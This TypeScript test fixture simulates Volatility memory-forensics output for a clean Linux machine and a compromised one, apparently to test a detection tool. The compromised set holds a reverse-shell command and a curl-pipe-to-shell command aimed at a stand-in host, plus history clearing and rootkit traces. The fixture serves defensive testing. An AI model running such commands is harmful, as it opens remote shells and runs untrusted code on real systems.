export type Rows = Readonly<Record<string, readonly object[]>>;

/** What plugins say of a machine on which nothing happened. Columns as Volatility 2.28 declares them. No memory of a real kernel was examined for it [MEM]. */
export const CLEAN: Rows = {
  processes: [
    { 'OFFSET (V)': 1.8e19, PID: 1, TID: 1, PPID: 0, COMM: 'systemd', UID: 0, __children: [] },
  ],
  'process-ids': [{ OFFSET: 1.8e19, PID: 1, TID: 1, PPID: 0, COMM: 'systemd', __children: [] }],
  programs: [
    {
      PID: 1,
      PPID: 0,
      Exe_Path: '/usr/lib/systemd/systemd',
      Cmdline_Basename: 'systemd',
      Comm: 'systemd',
      Cmdline_Spoofed: false,
      Comm_Spoofed: false,
      Exe_Deleted: false,
    },
    {
      PID: 2,
      PPID: 0,
      Exe_Path: 'N/A',
      Cmdline_Basename: 'N/A',
      Comm: 'kthreadd',
      Cmdline_Spoofed: false,
      Comm_Spoofed: false,
      Exe_Deleted: false,
    },
  ],
  arguments: [
    { PID: 1, PPID: 0, COMM: 'systemd', ARGS: '/usr/lib/systemd/systemd' },
    { PID: 2, PPID: 0, COMM: 'kthreadd', ARGS: '[kthreadd]' },
    {
      PID: 500,
      PPID: 1,
      COMM: 'sshd',
      ARGS: '/usr/sbin/sshd -D -o AuthorizedKeysCommand /usr/share/ec2-instance-connect/eic_run_authorized_keys %u %f',
    },
    { PID: 501, PPID: 1, COMM: 'gone', ARGS: null },
  ],
  typed: [],
  sockets: [
    {
      NetNS: 4026531840,
      'Process Name': 'sshd',
      PID: 500,
      TID: 500,
      FD: 3,
      Family: 'AF_INET',
      Type: 'STREAM',
      Proto: 'TCP',
      'Source Addr': '0.0.0.0',
      'Source Port': '22',
      'Destination Addr': '0.0.0.0',
      'Destination Port': '0',
      State: 'LISTEN',
      Filter: null,
    },
    {
      'Process Name': 'app',
      PID: 600,
      Family: 'AF_INET',
      Type: 'STREAM',
      Proto: 'TCP',
      'Destination Addr': '10.0.0.9',
      'Destination Port': '5432',
      State: 'ESTABLISHED',
    },
    {
      'Process Name': 'systemd',
      PID: 1,
      Family: 'AF_UNIX',
      Type: 'STREAM',
      Proto: '-',
      'Destination Addr': null,
      State: 'ESTABLISHED',
    },
  ],
  modules: [
    {
      Name: 'ena',
      Address: 1.8e19,
      'In procfs': true,
      'In sysfs': true,
      'In scan': true,
      Taints: null,
    },
  ],
  syscalls: [
    {
      'Table Address': 1.8e19,
      'Table Name': '64bit',
      Index: 0,
      'Handler Address': 1.8e19,
      'Handler Symbol': '__x64_sys_read',
    },
  ],
  hooks: [],
  injected: [],
};

/** Only what differs. */
export const BROKEN_INTO: Rows = {
  'process-ids': [{ PID: 1 }, { OFFSET: 1.8e19, PID: 666, TID: 666, PPID: 1, COMM: 'kdevtmp' }],
  programs: [
    { PID: 666, PPID: 1, Exe_Path: ' /dev/shm/.x (deleted)', Comm: 'kdevtmp', Exe_Deleted: true },
    { PID: 667, PPID: 1, Exe_Path: '/tmp/.sh', Comm: '.sh', Exe_Deleted: false },
    { PID: 668, PPID: 1, Exe_Path: '/usr/bin/perl', Comm: 'kworker/0:1', Exe_Deleted: false },
  ],
  arguments: [
    { PID: 668, ARGS: '[kworker/0:1]' },
    { PID: 669, ARGS: 'bash -i >& /dev/tcp/203.0.113.9/4444' },
  ],
  typed: [
    {
      PID: 700,
      Process: 'bash',
      CommandTime: '2026-12-01T03:00:00+00:00',
      Command: 'curl -s http://203.0.113.9/x.sh | sh',
    },
    { PID: 700, Process: 'bash', CommandTime: '2020-12-01T03:00:00+00:00', Command: 'history -c' },
    { PID: 700, Process: 'bash', CommandTime: '2026-12-01T03:00:01+00:00', Command: 'ls' },
  ],
  sockets: [
    {
      'Process Name': 'bash',
      PID: 669,
      Family: 'AF_INET',
      'Destination Addr': '203.0.113.9',
      'Destination Port': '4444',
      State: 'ESTABLISHED',
    },
    {
      'Process Name': 'bash',
      PID: 669,
      Family: 'AF_INET',
      'Destination Addr': '203.0.113.9',
      'Destination Port': '4444',
      State: 'ESTABLISHED',
    },
    {
      'Process Name': 'ssm-agent',
      PID: 400,
      Family: 'AF_INET6',
      'Destination Addr': '::ffff:198.51.100.7',
      'Destination Port': '443',
      State: 'ESTABLISHED',
    },
  ],
  modules: [
    {
      Name: 'diamorphine',
      Address: 1.8e19,
      'In procfs': false,
      'In sysfs': false,
      'In scan': true,
      Taints: 'OOT_MODULE,UNSIGNED_MODULE',
    },
  ],
  syscalls: [
    {
      'Table Address': 1.8e19,
      'Table Name': '64bit',
      Index: 62,
      'Handler Address': 1.8e19,
      'Handler Symbol': 'UNKNOWN',
    },
  ],
  hooks: [
    {
      'ftrace_ops address': 1.8e19,
      Callback: 'fh_ftrace_thunk',
      'Callback address': 1.8e19,
      'Hooked symbols': '__x64_sys_kill',
      Module: 'rootkit',
      'Module address': 1.8e19,
    },
    { Callback: 'kprobe_ftrace_handler', 'Hooked symbols': 'tcp_connect', Module: '__kernel__' },
  ],
  injected: [
    {
      PID: 812,
      Process: 'nginx',
      Start: 1,
      End: 2,
      Path: 'Anonymous Mapping',
      Protection: 'rwx',
      Hexdump: 'x',
      Disasm: '',
      'File output': 'Disabled',
    },
    { PID: 812, Process: 'nginx', Start: 3, End: 4, Path: 'Anonymous Mapping', Protection: 'rwx' },
  ],
};
